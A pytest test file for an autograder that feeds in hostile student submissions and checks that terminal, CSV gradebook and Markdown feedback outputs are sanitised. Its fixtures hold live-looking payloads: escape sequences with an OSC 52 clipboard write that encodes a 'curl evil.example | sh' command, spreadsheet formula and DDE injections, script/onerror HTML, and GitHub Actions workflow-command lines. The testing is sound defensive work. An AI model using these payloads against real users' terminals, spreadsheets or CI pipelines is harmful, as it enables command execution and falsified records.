"""Outputs turned against their readers (issue 21), through the real `grade` command.

A student who has read the public source controls the text of their exceptions
and the name of their folder or zip. Each attack here reached its reader raw
before outputs/sanitise.py: escape sequences on the instructor's terminal
(clear screen, an OSC 52 clipboard write, a fake green line), formulas in
grades.csv, HTML and fake table rows in the Markdown feedback.
"""
import csv
import re

import pytest

from helpers import reference_text, run_cli, write_submission

pytestmark = pytest.mark.slow

# Python source (escapes written as text): the message of the exception the
# student's loss raises, which the grader quotes in the feedback.
HOSTILE_MESSAGE = (r"'\x1b[2J\x1b[H\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07'"
                   r"'\n\x1b[32malice: 18/18\x1b[0m\x9b31m \u202eevil\u200b'"
                   r"'<script>alert(1)</script><img src=x onerror=alert(2)>'"
                   r"'\n| alice | 18 / 18 | passed |\n'"
                   r"'::stop-commands::x\n::add-mask::alice\n'"
                   r"'x ##[add-mask]bob ##[error]18/18\n'")
HOSTILE_LOSS = '''

def _hostile_loss(self, *args, **kwargs):
    raise ValueError(%s)


TwoLayerNet.loss = _hostile_loss
''' % HOSTILE_MESSAGE
ESCAPE_FOLDER = 'eve\x1b]52;c;Y3VybCBldmls\x07\x1b[2K'
FORMULA_IDS = ('=HYPERLINK("evil.example","x")', "=cmd|' -c calc'!A0", '+1+2',
               '-2+3', '@SUM(1)')
CONTROL = re.compile('[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]')


@pytest.fixture(scope='module')
def graded(tmp_path_factory):
    """A class graded with --out: a hostile loss, a folder named with escapes and
    students whose ids start like spreadsheet formulas."""
    root = tmp_path_factory.mktemp('attacks')
    klass = root / 'class'
    write_submission(str(klass / 'mallory'), reference_text() + HOSTILE_LOSS)
    (klass / ESCAPE_FOLDER).mkdir()
    for sid in FORMULA_IDS[:3]:
        (klass / sid).mkdir()                   # a folder with no neural_net.py
    for sid in FORMULA_IDS[3:]:
        (klass / (sid + '.zip')).write_bytes(b'not a zip')
    out = root / 'out'
    done = run_cli('grade', str(klass), '--out', str(out), '--dataset', 'none', '--jobs', '2',
                   '--no-report')
    assert done.returncode == 3, done.stderr
    return done, out


def test_terminal_table_and_messages_carry_no_escape(graded):
    done, _ = graded
    assert 'ValueError' in done.stdout            # the reason is still shown, made inert
    for stream in (done.stdout, done.stderr):
        assert not CONTROL.search(stream), repr(CONTROL.search(stream))
    # Only a submission's own line starts at the margin: no fake "alice: 18/18".
    assert not re.search(r'^alice', done.stdout, re.M)
    # Nor a line that GitHub Actions would run as a workflow command.
    assert not re.search(r'^\s*::', done.stdout, re.M)
    assert '##[' not in done.stdout and '##[' not in done.stderr      # the older form
    assert re.search(r'^not gradable: eve.*\(.*class/eve', done.stderr, re.M)


def test_gradebook_cells_are_never_formulas(graded):
    _, out = graded
    with open(out / 'grades.csv', newline='') as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ('=', '+', '-', '@', '\t', '\r')]
    ids = {row[3] for row in rows[1:]}
    assert {"'" + sid for sid in FORMULA_IDS} <= ids


def assert_inert_markdown(text):
    """No HTML, no fake row, no escape, rendered or raw."""
    assert '<script' not in text and '<img' not in text and not CONTROL.search(text)
    assert not re.search(r'^\| alice', text, re.M)
    assert not re.search(r'^\s*::', text, re.M)       # no workflow command in a CI log
    mistune = pytest.importorskip('mistune')
    html = mistune.html(text)
    assert '<script' not in html and '<img' not in html
    # Only the grader's rows: one table, one row per check of the catalog.
    assert html.count('<table>') <= 1 and '<td>alice</td>' not in html


def test_feedback_markdown_is_inert(graded):
    _, out = graded
    text = (out / 'feedback' / 'mallory.md').read_text()
    assert 'ValueError' in text
    assert_inert_markdown(text)


def test_grade_markdown_is_inert(tmp_path):
    path = write_submission(str(tmp_path / 'mallory'), reference_text() + HOSTILE_LOSS)
    done = run_cli('grade', str(path), '--markdown', '--dataset', 'none')
    assert done.returncode == 0, done.stderr
    assert 'ValueError' in done.stdout
    assert_inert_markdown(done.stdout)
